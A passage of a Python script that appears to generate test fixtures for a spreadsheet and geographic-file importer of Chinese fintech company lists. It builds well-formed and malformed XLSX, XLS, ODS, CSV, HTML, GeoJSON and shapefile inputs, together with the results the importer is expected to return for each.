         datum="wgs84", findings=UNKNOWN_DATUM | {"bad-coordinate": 2, "coordinate-range": 2, "outside-map": 1,
                                                  "district-from-position": 1, "other-district": 1},
         first=some[0].expect(fields))


# --- good: workbooks ------------------------------------------------------------------------------------------------

SHEET = "企业名录"


def simple(rows, name=SHEET, **how):
    book = Book(**{k: how.pop(k) for k in ("date1904", "prefix", "refs") if k in how})
    book.sheet(name, rows, **how)
    return book.bytes()


def saved(book):
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def openpyxl_bytes(book):
    book.properties.created = book.properties.modified = datetime.datetime(2024, 1, 1)
    return rezipped(saved(book))


def workbooks():
    some = firms(6, 130)
    full = BASIC + ["lon", "lat"]
    first = some[0].expect(full)
    placed = dict(datum="wgs84", findings=UNKNOWN_DATUM)
    plain = simple(typed_table(some, full))
    good("xlsx_plain.xlsx", plain, 6, "shared strings, numbers, real dates, as Excel saves", sheet=SHEET, first=first,
         **placed)
    good("xlsx_named.csv", plain, 6, "a workbook whose name ends in .csv: the content tells", sheet=SHEET, first=first,
         **placed)
    good("et_zip.et", plain, 6, "WPS's .et that is an XLSX inside", sheet=SHEET, first=first, **placed)
    good("xlsx_inline.xlsx", simple([[Inline(c) for c in r] for r in table(some, full)]), 6,
         "inline strings only, and every number as text", sheet=SHEET, first=first, **placed)
    good("xlsx_no_dimension.xlsx", simple(typed_table(some, full), dimension=False), 6, "no dimension element",
         sheet=SHEET, first=first, **placed)
    good("xlsx_wrong_dimension.xlsx", simple(typed_table(some, full), dimension="A1"), 6,
         "the dimension says A1 only, as some libraries write", sheet=SHEET, first=first, **placed)
    good("xlsx_claims_all.xlsx", simple(typed_table(some[:5], full), dimension="A1:XFD1048576"), 5,
         "the used range claims every cell there is, but five rows are there: no memory for the rest", sheet=SHEET,
         first=first, **placed)
    good("xlsx_prefixed.xlsx", simple(typed_table(some, full), prefix="x"), 6,
         "elements with a namespace prefix (<x:row>), as the Open XML SDK writes", sheet=SHEET, first=first, **placed)
    good("xlsx_no_refs.xlsx", simple(typed_table(some, full), refs=False), 6,
         "rows and cells without r attributes: their order counts", sheet=SHEET, first=first, **placed)
    titles = [["上海市金融科技企业名录（测试）"], ["填报日期：2024年1月"], []]
    good("xlsx_titles.xlsx", simple(titles + typed_table(some, full), merges=["A1:J1", "A2:J2"]), 6,
         "two merged titles and an empty row above the header", sheet=SHEET, header_row=4, first=first, **placed)
    spread = typed_table(some, full)
    gaps = spread[:2] + [[], []] + spread[2:4] + [[]] + spread[4:]
    good("xlsx_gaps.xlsx", simple([[""] * 2 + r for r in gaps], first_row=3), 6,
         "the table begins at C3 and has empty rows between", sheet=SHEET, header_row=3, first=first, **placed)
    table_rows = typed_table(some, full)
    far = [(1, 0, "企业名录"), (1_048_576, 16_383, " ")]
    good("xlsx_far_apart.xlsx", simple(table_rows, first_row=3, extra=far), 6,
         "a title in A1 and a blank in XFD1048576: the table is read without memory for 17 billion cells", sheet=SHEET,
         header_row=3, first=first, **placed)
    far[1] = (1_048_576, 16_383, "x")
    good("xlsx_far_value.xlsx", simple(table_rows, first_row=3, extra=far), 7,
         "a stray x in XFD1048576 is a row without name, refused; the table is imported", sheet=SHEET, header_row=3,
         refused=1, first=first, datum="wgs84", findings=UNKNOWN_DATUM | {"extra-cells": 1, "no-name": 1},
         uncertain="cells beyond the columns read may be dropped: then 6 rows, none refused")
    good("xlsx_long_cell.xlsx", simple([r + (["全文"] if i == 0 else ["文" * 32_767] if i == 1 else []) for i, r in
                                        enumerate(typed_table(some, SHORT))]), 6,
         "the longest cell Excel allows, 32,767 characters of Chinese, in a column nobody knows", sheet=SHEET,
         findings={"unknown-column": 1}, first=some[0].expect(SHORT), uncertain="98 kB of UTF-8: over the limit of 64 KiB a cell of "
         "today, but a workbook is not to be refused for it")

    book = Book()
    rows = typed_table(some, SHORT)
    rows[1][0] = Raw(f"<t>{some[0].name}</t><rPh sb=\"0\" eb=\"2\"><t>シャンハイ</t></rPh><phoneticPr fontId=\"0\"/>")
    rows[2][0] = Raw(f"<r><t>{some[1].name[:4]}</t></r><r><rPr><b/><color rgb=\"FFFF0000\"/></rPr><t>"
                     f"{some[1].name[4:]}</t></r>")
    rows[3][0] = Raw(f"<r><t xml:space=\"preserve\">{some[2].name}</t></r><rPh sb=\"0\" eb=\"1\"><t>shang</t></rPh>")
    book.sheet(SHEET, rows)
    good("xlsx_phonetic_rich.xlsx", book.bytes(), 6,
         "shared strings with phonetic guides, which are no text of the cell, and of several formatted runs, which are",
         sheet=SHEET, first=some[0].expect(SHORT), all={"name_zh": [f.name for f in some]})

    book = openpyxl.Workbook()
    ws = book.active
    ws.title = SHEET
    ws.append(["序号", "基本信息", None, "所在区", "位置", None])
    ws.append([None, "企业名称", "信用代码", None, "经度", "纬度"])
    for m in ["A1:A2", "B1:C1", "D1:D2", "E1:F1"]:
        ws.merge_cells(m)
    for i, f in enumerate(some, 1):
        ws.append([i, f.name, f.uscc, f.district, f.lon, f.lat])
    good("xlsx_header_two_rows.xlsx", openpyxl_bytes(book), 6,
         "基本信息 merged over 企业名称 and 信用代码, 位置 over 经度 and 纬度, 所在区 merged down both rows: the second is the header",
         sheet=SHEET, header_row=2, first=some[0].expect(PLACED), **placed)
    units = [["企业名称", "注册资本", "员工数", "所在区"], ["", "（亿元）", "（人）", ""]]
    units += [[f.name, f.capital / 1e4, f.employees, f.district] for f in some]
    measured = some[0].expect(["name_zh", "registered_capital_wan_cny", "employees", "office_district"])
    amounts = {"registered_capital_wan_cny": [f.capital for f in some], "employees": [f.employees for f in some]}
    good("xlsx_unit_row.xlsx", simple(units), 6, "a row of units in brackets under the header: 亿元 is that of the capital",
         sheet=SHEET, header_row=2, first=measured, all=amounts)
    units[1] = ["企业名称", "亿元", "人", "所在区"]
    good("xlsx_unit_row_merged.xlsx", simple(units, merges=["A1:A2", "D1:D2"]), 6,
         "the same without brackets, between headers merged over both rows", sheet=SHEET, header_row=2, first=measured,
         all=amounts)
    upper = [["名录（测试）"], ["序号", "企业信息", "", "经营情况", "备注"], ["", "企业名称", "统一社会信用代码", "员工数", ""]]
    upper += [[str(i), f.name, f.uscc, f.employees, f"备注{i}"] for i, f in enumerate(some, 1)]
    good("xlsx_upper_header.xlsx", simple(upper, merges=["A1:E1", "B2:C2"]), 6,
         "of two rows of headers 序号 and 备注 stand in the upper one alone, not merged down: they count", sheet=SHEET,
         header_row=3, first=some[0].expect(["name_zh", "uscc", "employees"]) | {"note": "备注1"})
    same = firms(6, 140, adcodes=[310104, 310104, 310104, 310109, 310109, 310109])
    down = [["所在区", "企业名称", "统一社会信用代码", "成立日期"]]
    down += [[f.district if i % 3 == 0 else "", f.name, f.uscc, Num(serial(f.founded), 2)] for i, f in enumerate(same)]
    merged_first = same[0].expect(["name_zh", "uscc", "office_district", "founded"])
    each = {"office_district": [f.adcode for f in same]}
    good("xlsx_merged_down.xlsx", simple(down, merges=["A2:A4", "A5:A7"]), 6,
         "a district merged down three rows counts for each of them", sheet=SHEET, first=merged_first, all=each)
    partly = [list(r) for r in down]
    good("xlsx_not_merged.xlsx", simple(partly), 6, "the same cells without merging: an empty cell is empty, nothing is "
         "filled down", sheet=SHEET, first=merged_first,
         all={"office_district": [310104, None, None, 310109, None, None]})

    cells = [Num(42156, 1), Num(42156, 2), Num("42156.520833333", 5), Num(2015), Num(20150601), "2015年6月1日", Num(42156)]
    rows, named = column_of(cells, "成立日期")
    day = "2015-06-01"
    days = [day, day, day, "2015", day, day, day]
    good("xlsx_dates.xlsx", simple(rows), 7, "dates of three formats, a year, 20150601, text, a bare serial number",
         sheet=SHEET, first={"name_zh": named[0].name, "founded": day}, all={"founded": days})
    book = openpyxl.Workbook()
    book.epoch = openpyxl.utils.datetime.CALENDAR_MAC_1904
    ws = book.active
    ws.title = SHEET
    ws.append(["企业名称", "成立日期"])
    for f in some:
        ws.append([f.name, datetime.date.fromisoformat(f.founded)])
    data = openpyxl_bytes(book)
    good("xlsx_1904.xlsx", data, 6, "the date system of 1904: dates are 1,462 days off where that is not seen",
         sheet=SHEET, first=some[0].expect(["name_zh", "founded"]), all={"founded": [f.founded for f in some]})
    digits = [uscc(310104, 11_234_567 + 100 * i, True) for i in range(3)]
    cells = [uscc(310104, 960), digits[0], Num(f"{float(digits[1]):.16E}"), Num(f"{float(digits[2]):.16E}", 4), Num("9.13101E+17")]
    rows, named = column_of(cells, "统一社会信用代码")
    good("xlsx_uscc_number.xlsx", simple(rows), 5,
         "credit codes of digits alone: as text good, as numbers they have lost their last digits and are not taken",
         sheet=SHEET, findings={"float-code": 3}, first={"name_zh": named[0].name, "uscc": cells[0]},
         all={"uscc": [cells[0], digits[0], None, None, None]})
    rows = typed_table(some, SHORT + ["employees"]) 
    rows[0].append("备注")
    for i, (f, r) in enumerate(zip(some, rows[1:])):
        r[0] = Formula(f'CONCATENATE("上海","x{i}")', f.name)
        r[3] = Formula("DATE(2015,6,1)", Num(serial(f.founded), 1))
        r[4] = Formula("SUM(1,2)", Num(f.capital))
        r.append(Formula("A1&B1", None) if i == 1 else "")
    good("xlsx_formulas.xlsx", simple(rows), 6,
         "formulas: the values saved with them count; one without a saved value is empty, and said to be",
         sheet=SHEET, findings={"formula-not-computed": 1}, first=some[0].expect(SHORT + ["employees"]))
    rows = typed_table(some, SHORT)
    rows[2][1], rows[3][3], rows[4][4] = Err("#N/A"), Err("#VALUE!"), Formula("1/0", Err("#DIV/0!"))
    rows[5][2], rows[6][0] = Err("#NAME?"), Formula("#REF!A1", Err("#REF!"))
    good("xlsx_errors.xlsx", simple(rows), 6, "error cells are empty; where the name is one, the row is refused",
         sheet=SHEET, refused=1, findings={"formula-error": 5, "no-name": 1}, first=some[0].expect(SHORT))

    book = Book()
    book.sheet("字典", [["黄浦区", "区块链"], ["徐汇区", "支付科技"], ["长宁区", "保险科技"]], state="hidden")
    book.sheet("数据", typed_table(some, SHORT))
    good("xlsx_hidden_first.xlsx", book.bytes(), 6, "a hidden sheet of words for drop-down lists comes first",
         sheet="数据", first=some[0].expect(SHORT))
    book = Book()
    book.sheet("旧表", typed_table(firms(3, 150), SHORT), state="veryHidden")
    book.sheet("新表", typed_table(some, SHORT))
    good("xlsx_hidden_old.xlsx", book.bytes(), 6,
         "a hidden sheet with a table of its own comes first: what the editor sees is meant", sheet="新表",
         first=some[0].expect(SHORT), uncertain="the first with a header might be taken, hidden or not")
    book = Book()
    book.sheet("填表说明", [["请按要求填写"], ["一、名称用全称"], ["二、日期到日"]])
    book.sheet("名单一", typed_table(some[:3], SHORT))
    book.sheet("名单二", typed_table(firms(5, 160), SHORT))
    book.sheet("名单三", typed_table(firms(2, 165), ["name_zh", "employees"]))
    book.sheet("赛道说明", [["名称", "说明"], ["区块链", "见附件"]])
    book.sheet("旧名单", typed_table(firms(2, 167), SHORT), state="hidden")
    good("xlsx_several_sheets.xlsx", book.bytes(), 3,
         "of several sheets the first that has a header; two others of companies are told of, a list of words and a "
         "hidden sheet are not", sheet="名单一", findings={"other-sheets": 1}, first=some[0].expect(SHORT))
    book = Book()
    book.sheet("Sheet1", [])
    book.sheet("Sheet2", typed_table(some, SHORT))
    good("xlsx_empty_first.xlsx", book.bytes(), 6, "the first sheet is empty", sheet="Sheet2", first=some[0].expect(SHORT))
    coded = typed_table(some, SHORT)
    for f, r in zip(some, coded[1:]):
        r[2], r[4] = Num(f"{f.adcode}.0" if f.i % 2 else f.adcode), Num(f"{f.capital}.0", 4)
    good("xlsx_numbers.xlsx", simple(coded), 6, "district codes as numbers, amounts shown with thousands separators",
         sheet=SHEET, first=some[0].expect(SHORT), all={"office_district": [f.adcode for f in some]})


def other_workbooks():
    some = firms(6, 170)
    full = BASIC + ["lon", "lat"]
    first = some[0].expect(full)
    placed = dict(datum="wgs84", findings=UNKNOWN_DATUM)

    def xls(rows, merges=(), epoch1904=False):
        book = xlwt.Workbook(encoding="utf-8")
        book.dates_1904 = epoch1904
        ws = book.add_sheet(SHEET)
        date = xlwt.easyxf(num_format_str="yyyy/m/d")
        covered = {(r, c) for r1, r2, c1, c2, _ in merges for r in range(r1, r2 + 1) for c in range(c1, c2 + 1)}
        for r1, r2, c1, c2, value in merges:
            ws.write_merge(r1, r2, c1, c2, value)
        for r, row in enumerate(rows):
            for c, value in enumerate(row):
                if (r, c) in covered or value in ("", None):
                    continue
                if isinstance(value, Num):
                    ws.write(r, c, float(value.text), *([date] if value.style in (1, 2) else []))
                else:
                    ws.write(r, c, value)
        return saved(book)

    plain = xls(typed_table(some, full))
    good("xls_plain.xls", plain, 6, "Excel 97–2003: numbers, dates, Chinese", sheet=SHEET, first=first, **placed)
    good("et_ole.et", plain, 6, "WPS's .et, which is an OLE file like .xls", sheet=SHEET, first=first, **placed)
    same = firms(6, 140, adcodes=[310104, 310104, 310104, 310109, 310109, 310109])
    down = [["所在区", "企业名称", "统一社会信用代码"]] + [["", f.name, f.uscc] for f in same]
    good("xls_merged_down.xls", xls(down, [(1, 3, 0, 0, "徐汇区"), (4, 6, 0, 0, "虹口区")]), 6,
         "a district merged down three rows of an .xls", sheet=SHEET,
         first=same[0].expect(["name_zh", "uscc", "office_district"]),
         all={"office_district": [f.adcode for f in same]})
    digits = uscc(310104, 11_234_567, True)
    rows, named = column_of([uscc(310104, 961), digits, Num(digits)], "统一社会信用代码")
    good("xls_uscc_number.xls", xls(rows), 3, "a credit code as a number of an .xls", sheet=SHEET,
         findings={"float-code": 1}, first={"name_zh": named[0].name, "uscc": rows[1][1]},
         all={"uscc": [rows[1][1], digits, None]})
    rows = [["企业名称", "成立日期"]]
    rows += [[f.name, Num(serial(f.founded) - 1462, 1)] for f in some]
    good("xls_1904.xls", xls(rows, epoch1904=True), 6, "an .xls of the date system of 1904", sheet=SHEET,
         first=some[0].expect(["name_zh", "founded"]), all={"founded": [f.founded for f in some]})

    def ods(rows, repeat_blank=False, down=None):
        document = opendocument.OpenDocumentSpreadsheet()
        for meta in list(document.meta.childNodes):
            document.meta.removeChild(meta)
        form = odf_number.DateStyle(name="D1")
        for part, sep in ((odf_number.Year(style="long"), "-"), (odf_number.Month(style="long"), "-"), (odf_number.Day(style="long"), "")):
            form.addElement(part)
            if sep:
                form.addElement(odf_number.Text(text=sep))
        document.automaticstyles.addElement(form)
        dated = odf_style.Style(name="ce1", family="table-cell", datastylename="D1")
        document.automaticstyles.addElement(dated)
        sheet = odf_table.Table(name=SHEET)
        for r, row in enumerate(rows):
            tr = odf_table.TableRow()
            for c, value in enumerate(row):
                if down and c == down[0] and r in down[1]:
                    tr.addElement(odf_table.CoveredTableCell())
                    continue
                span = {"numberrowsspanned": 3, "numbercolumnsspanned": 1} if down and c == down[0] and r + 1 in down[1] else {}
                if isinstance(value, Num):
                    iso = (datetime.date(1899, 12, 30) + datetime.timedelta(days=int(value.text))).isoformat()
                    cell = odf_table.TableCell(valuetype="date", datevalue=iso, stylename=dated, **span)
                    cell.addElement(odf_text.P(text=iso))
                elif isinstance(value, (int, float)):
                    cell = odf_table.TableCell(valuetype="float", value=repr(value), **span)
                    cell.addElement(odf_text.P(text=f"{value:,}"))
                else:
                    cell = odf_table.TableCell(valuetype="string", **span)
                    cell.addElement(odf_text.P(text=value))
                tr.addElement(cell)
            if repeat_blank:
                tr.addElement(odf_table.TableCell(numbercolumnsrepeated=16_384 - len(row)))
            sheet.addElement(tr)
        if repeat_blank:
            tail = odf_table.TableRow(numberrowsrepeated=1_048_576 - len(rows))
            tail.addElement(odf_table.TableCell(numbercolumnsrepeated=16_384))
            sheet.addElement(tail)
        document.spreadsheet.addElement(sheet)
        return rezipped(saved_odf(document))

    def saved_odf(document):
        out = io.BytesIO()
        document.write(out)
        return out.getvalue()

    good("ods_plain.ods", ods(typed_table(some, full)), 6, "OpenDocument: values count, not the text shown (1,000)",
         sheet=SHEET, first=first, **placed)
    good("ods_repeated.ods", ods(typed_table(some, full), repeat_blank=True), 6,
         "OpenDocument whose empty rest is repeated to the last cell of the sheet, as LibreOffice writes", sheet=SHEET,
         first=first, **placed)
    rows = [["所在区", "企业名称", "统一社会信用代码"]] + [[f.district, f.name, f.uscc] for f in same]
    good("ods_merged_down.ods", ods(rows, down=(0, {2, 3, 5, 6})), 6, "a district merged down three rows of an .ods",
         sheet=SHEET, first=same[0].expect(["name_zh", "uscc", "office_district"]),
         all={"office_district": [f.adcode for f in same]})


def wrong_extensions():
    some = firms(4, 180)
    first = some[0].expect(SHORT)
    rows = table(some, SHORT)
    text("csv_named.xls", joined(rows, end="\r\n").encode("gbk"), 4,
         "a CSV in GBK whose name ends in .xls, as many systems export", encoding="gb18030", first=first)
    text("utf16_tabs.xls", b"\xff\xfe" + joined(rows, "\t", "\r\n").encode("utf-16-le"), 4,
         "UTF-16 with tabs whose name ends in .xls", encoding="utf-16le", first=first)
    same = firms(4, 190, adcodes=[310104, 310104, 310109, 310109])
    cells = []
    for i, f in enumerate(same):
        district = f'<td rowspan="2">{f.district}</td>' if i % 2 == 0 else ""
        note = "甲&nbsp;乙&amp;丙" if i == 0 else "<b>粗</b><br/>下一行" if i == 1 else "&nbsp;"
        cells.append(f'<tr>{district}<td style="mso-number-format:\'\\@\'">{html.escape(f.name)}</td>\r\n'
                     f"<td x:str>{f.uscc}</td><td>{f.founded}</td><TD>{f.capital:,}</TD><td>{note}</td></tr>\r\n")
    page = (
        '<html xmlns:o="urn:schemas-microsoft-com:office:office" xmlns:x="urn:schemas-microsoft-com:office:excel">\r\n'
        '<head><meta http-equiv="Content-Type" content="text/html; charset=gbk"><style>td{border:.5pt solid}</style>'
        "<!--[if gte mso 9]><xml><x:ExcelWorkbook/></xml><![endif]--></head>\r\n<body>\r\n"
        '<table border="1">\r\n<tr><td colspan="6">企业名录（测试）</td></tr>\r\n<tr><th>所在区</th><th>企业名称</th>'
        "<th>统一社会信用代码</th><th>成立日期</th><th>注册资本<br>（万元）</th><th>备注</th></tr>\r\n" + "".join(cells)
        + "</table>\r\n</body></html>\r\n"
    )
    html_first = same[0].expect(["office_district", "name_zh", "uscc", "founded", "registered_capital_wan_cny"])
    text("html_table.xls", page.encode("gbk"), 4,
         "an HTML table in GBK (by its meta element) named .xls, as Chinese web systems export: a title over six "
         "columns, a district over two rows, entities; header_row counts rows of the table", encoding="gb18030",
         header_row=2, first=html_first | {"note": "甲 乙&丙"},
         all={"office_district": [f.adcode for f in same]}, uncertain="&nbsp; may stay U+00A0 in the note")
    bare = ("<table><tr>" + "".join(f"<td>{c}</td>" for c in header(SHORT)) + "</tr>"
            + "".join("<tr>" + "".join(f"<td>{c}" for c in line(f, SHORT)) for f in some) + "</table>")
    text("html_bare.xls", bare, 4, "a bare HTML table in UTF-8 without html element, and cells that are never closed",
         first=first)


# --- good: geographic files -----------------------------------------------------------------------------------------


def geographic():
    some = firms(6, 200)
    first = some[0].expect(PLACED + ["founded", "registered_capital_wan_cny"])
    placed = dict(datum="wgs84", findings=UNKNOWN_DATUM)

    def feature(f, geometry):
        return {"type": "Feature", "properties": {
            "企业名称": f.name, "统一社会信用代码": f.uscc, "所在区": f.district, "成立日期": f.founded, "注册资本（万元）": f.capital,
        }, "geometry": geometry}

    def point(f, *height):
        return {"type": "Point", "coordinates": [f.lon, f.lat, *height]}

    collection = {"type": "FeatureCollection", "features": [feature(f, point(f)) for f in some]}
    good("points.geojson", json.dumps(collection, ensure_ascii=False), 6, "GeoJSON points with properties", first=first,
         **placed)
    good("points_named.json", "\ufeff" + json.dumps(collection, ensure_ascii=True, indent=2), 6,
         "GeoJSON named .json, with byte-order mark and \\u escapes", first=first, **placed)
    mixed = [feature(f, point(f, 4.5) if i < 4 else None) for i, f in enumerate(some)]
    good("points_3d_null.geojson", json.dumps({"type": "FeatureCollection", "name": "企业", "crs": {
        "type": "name", "properties": {"name": "urn:ogc:def:crs:OGC:1.3:CRS84"}}, "features": mixed}, ensure_ascii=False), 6,
         "positions with a height, and two features without geometry: companies whose place is not known", first=first,
         **placed)
    several = [feature(f, point(f)) for f in some[:4]]
    several[1]["properties"]["备注"] = "只此一家"
    several[2]["properties"] = {"企业名称": some[2].name, "所在区": None, "注册资本（万元）": None}
    good("points_uneven.geojson", json.dumps({"type": "FeatureCollection", "features": several}, ensure_ascii=False), 4,
         "features whose properties differ: columns are all that occur, null is empty", first=first, datum="wgs84",
         findings=UNKNOWN_DATUM | {"district-from-position": 1})

    columns = [("企业名称", "TEXT"), ("统一社会信用代码", "TEXT"), ("所在区", "TEXT"), ("成立日期", "DATE"), ("注册资本（万元）", "REAL")]
    for srs in [4326, 4490]:
        rows = [(gpkg_point(f.lon, f.lat, srs), f.name, f.uscc, f.district, f.founded, float(f.capital)) for f in some]
        good(f"points_{srs}.gpkg", geopackage("companies", columns, rows, srs), 6,
             "a GeoPackage of points in " + {4326: "WGS 84", 4490: "CGCS2000, which agrees within decimetres"}[srs],
             first=first, **placed)

    placed = dict(datum="wgs84", findings=UNKNOWN_DATUM | {"unit-assumed": 1})
    fields = [("企业名称", "C", 80, 0), ("信用代码", "C", 18, 0), ("所在区", "C", 20, 0), ("成立日期", "D", 8, 0), ("注册资本", "N", 12, 2)]
    rows = [(f.lon, f.lat, (f.name, f.uscc, f.district, datetime.date.fromisoformat(f.founded), f.capital)) for f in some]
    shp, shx, dbf = shapefile_parts(fields, rows, "gbk")
    good("points_gbk.shp", shp, 6, "a shapefile beside .shx, .prj, .dbf in GBK and .cpg that says GBK; headers cut to "
         "ten bytes", encoding="gb18030", header_row=0, first=first, parts=["points_gbk.shx", "points_gbk.dbf", "points_gbk.prj", "points_gbk.cpg"],
         **placed)
    for ending, data in [("shx", shx), ("dbf", dbf), ("prj", WKT_4326.encode()), ("cpg", b"GBK")]:
        (HERE / "good" / f"points_gbk.{ending}").write_bytes(data)
    good("points_gbk.zip", zipped([("企业/points.shp", shp), ("企业/points.shx", shx), ("企业/points.dbf", dbf),
                                   ("企业/points.prj", WKT_4326), ("企业/points.cpg", "936")]), 6,
         "a shapefile in a folder of a ZIP; .cpg says 936", encoding="gb18030", header_row=0, first=first, **placed)
    good("points_no_cpg.zip", zipped([("points.shp", shp), ("points.shx", shx), ("points.dbf", dbf)]), 6,
         "a shapefile without .cpg and .prj: the encoding of the .dbf is found out as of any text", encoding="gb18030",
         header_row=0, first=first, **placed)
    utf = [("名称", "C", 80, 0), ("代码", "C", 18, 0), ("所在区", "C", 20, 0)]
    shp, shx, dbf = shapefile_parts(utf, [(f.lon, f.lat, (f.name, f.uscc, f.district)) for f in some], "utf-8")
    good("points_utf8.zip", zipped([("points.SHP", shp), ("points.SHX", shx), ("points.DBF", dbf), ("points.CPG", "UTF-8")]),
         6, "a shapefile in UTF-8, endings in capitals; 代码 is not a known header", encoding="utf-8", header_row=0, datum="wgs84",
         findings=UNKNOWN_DATUM | {"unknown-column": 1}, first=some[0].expect(["name_zh", "office_district", "lon", "lat"]))


# --- bad ------------------------------------------------------------------------------------------------------------


def bad_texts():
    some = firms(5, 210)
    rows = table(some, SHORT)
    bad("empty.csv", b"", "import-empty", "no byte at all")
    bad("blank_lines.csv", "\n\r\n  \n\t\n,,,\n", "import-empty", "blank lines and a row of commas")
    bad("only_bom.csv", b"\xef\xbb\xbf", "import-empty", "a byte-order mark and nothing else")
    bad("titles_only.csv", "上海市金融科技企业名录（测试）\n填报日期：2024年1月\n以下为说明文字\n", "import-no-header", "titles, no header")
    bad("header_only.csv", joined(rows[:1]), "import-no-rows", "a header and no row")
    bad("no_name_column.csv", joined([r[1:] for r in rows]), "import-no-name-column", "known columns, but no name")
    broken = joined(rows[:3]) + f'{some[2].name},"未完,{some[2].district},2015,500\n' + joined(rows[4:])
    bad("unclosed_quote.csv", broken, "import-unclosed-quote", "a quotation mark that is never closed, on line 4", line=4)
    rng = random.Random(11)
    bad("binary.csv", bytes(rng.randrange(256) for _ in range(4000)), "import-not-text", "random bytes named .csv",
        **{"or": ["import-not-encoded", "import-unknown-format"]})
    raw = b"".join(b"\0" + bytes(rng.randrange(256) for _ in range(3 * 16)) for _ in range(16))

    def chunk(kind, data):
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    png = (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", 16, 16, 8, 2, 0, 0, 0))
           + chunk(b"IDAT", zlib.compress(raw, 9)) + chunk(b"IEND", b""))
    bad("png_named.csv", png, "import-not-text", "a picture named .csv", **{"or": ["import-unknown-format"]})
    pdf = b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj 2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n"
    bad("pdf_named.csv", pdf, "import-unknown-format", "a PDF named .csv",
        **{"or": ["import-not-text", "import-not-encoded", "import-no-header"]})
    squeeze = zlib.compressobj(9, zlib.DEFLATED, 31)
    gz = squeeze.compress(joined(rows).encode()) + squeeze.flush()
    bad("gzip_named.csv", gz, "import-unknown-format", "a compressed CSV without its .gz",
        **{"or": ["import-not-text", "import-not-encoded"]})
    bad("nul_bytes.csv", joined(rows[:3]).encode() + b"\0\0\0\0" + joined(rows[3:]).encode(), "import-not-text",
        "UTF-8 with NUL bytes in the middle")
    data = joined(rows * 4, end="\r\n").encode("gb18030")
    middle = data.index("\r\n".encode(), len(data) // 2) + 2 + len("上海测试".encode("gb18030"))
    for encoding in ("gb18030", "big5", "utf-8"):
        try:
            (data[:middle] + b"\xff" + data[middle:]).decode(encoding)
            raise AssertionError(encoding)
        except UnicodeDecodeError:
            pass
    bad("broken_gb18030.csv", data[:middle] + b"\xff" + data[middle:], "import-not-encoded",
        "GB18030 with one byte (FF) in the middle that neither it nor Big5 nor UTF-8 has")
    bad("broken_utf8.csv", joined(rows).encode("utf-8-sig")[:-9] + b"\xe4\xff" + b",x\n", "import-not-encoded",
        "a UTF-8 mark, but not UTF-8 to the end")
    wide = joined(rows[:1]).rstrip("\n") + "," * 20_000 + "\n" + joined(rows[1:])
    bad("twenty_thousand_columns.csv", wide, "import-too-many-columns", "a header of 20,000 columns")
    bad("one_line_json.csv", '{"rows": [1, 2, 3]}\n', "import-no-header", "JSON that is no GeoJSON, named .csv",
        **{"or": ["import-unknown-format", "import-no-points"]})
    page = ("<!DOCTYPE html><html><head><meta charset=\"utf-8\"><title>登录</title></head><body><form>"
            "<p>登录超时，请重新登录</p><input name=\"user\"></form></body></html>")
    bad("html_login.xls", page, "import-no-header",
        "what is saved when the session of a web system has ended: HTML without a table",
        **{"or": ["import-no-sheet", "import-unknown-format", "import-empty"]})


def encrypted(data):
    """The workbook under the password «test», by msoffcrypto with a fixed stream for its random numbers."""
    from msoffcrypto.format.ooxml import OOXMLFile
    from msoffcrypto.method.container.ecma376_encrypted import datetime2filetime

    rng = random.Random(13)
    out = io.BytesIO()
    then = datetime.datetime(2024, 1, 1)
    container = "msoffcrypto.method.container.ecma376_encrypted"
    with (
        mock.patch("secrets.token_bytes", lambda n=32: bytes(rng.randrange(256) for _ in range(n))),
        mock.patch(f"{container}.datetime2filetime", lambda _, real=datetime2filetime: real(then)),
    ):
        OOXMLFile(io.BytesIO(data)).encrypt("test", out)
    return out.getvalue()


def bad_workbooks():
    some = firms(5, 220)
    rows = typed_table(some, SHORT)
    plain = simple(rows)
    bad("truncated.xlsx", plain[: len(plain) // 2], "import-damaged", "the first half of a workbook")
    rng = random.Random(17)
    bad("random.xlsx", bytes(rng.randrange(256) for _ in range(3000)), "import-unknown-format",
        "random bytes named .xlsx", **{"or": ["import-damaged", "import-not-text", "import-not-encoded"]})
    bad("pk_only.xlsx", b"PK\x03\x04" + b"\0" * 26, "import-damaged", "the first header of a ZIP and nothing behind it")
    # Of 40 rows: msoffcrypto writes streams under 4096 bytes wrongly.
    larger = simple(typed_table(firms(40, 220), SHORT))
    bad("encrypted.xlsx", encrypted(larger), "import-encrypted", "a workbook with a password (it is «test»)")
    book = xlwt.Workbook(encoding="utf-8")
    sheet = book.add_sheet(SHEET)
    for r, row in enumerate(table(some, SHORT)):
        for c, value in enumerate(row):
            sheet.write(r, c, value)
    xls = saved(book)
    # WRITEACCESS (005C, 112 bytes) behind BOF becomes FILEPASS of RC4 (002F, 54 bytes) and a shorter WRITEACCESS.
    place = xls.index(b"\x5c\x00\x70\x00")
    key = struct.pack("<HHHH", 0x2F, 54, 1, 1) + struct.pack("<H", 1) + bytes(rng.randrange(256) for _ in range(48))
    rest = struct.pack("<HH", 0x5C, 116 - len(key) - 4) + b" " * (116 - len(key) - 4)
    bad("encrypted.xls", xls[:place] + key + rest + xls[place + 116:], "import-encrypted",
        "an .xls whose stream says FILEPASS: it has a password")
    bad("truncated.xls", xls[: len(xls) // 2], "import-damaged", "the first half of an .xls")
    bad("ole_only.xls", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 1000, "import-damaged",
        "the mark of an OLE file and nothing behind it")
    word = zipped([
        ("[Content_Types].xml", HEAD + '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>'),
        ("_rels/.rels", HEAD + '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"/>'),
        ("word/document.xml", HEAD + '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
         "<w:body><w:p><w:r><w:t>企业名称</w:t></w:r></w:p></w:body></w:document>"),
    ])
    bad("docx_named.xlsx", word, "import-unknown-format", "a Word file named .xlsx",
        **{"or": ["import-damaged", "import-no-sheet"]})
    bad("archive.zip", zipped([("名单/readme.txt", "测试"), ("名单/图.bin", b"\1\2\3")]), "import-unknown-format",
        "a ZIP without anything to import", **{"or": ["import-damaged", "import-no-sheet", "import-no-points", "import-missing-part"]})
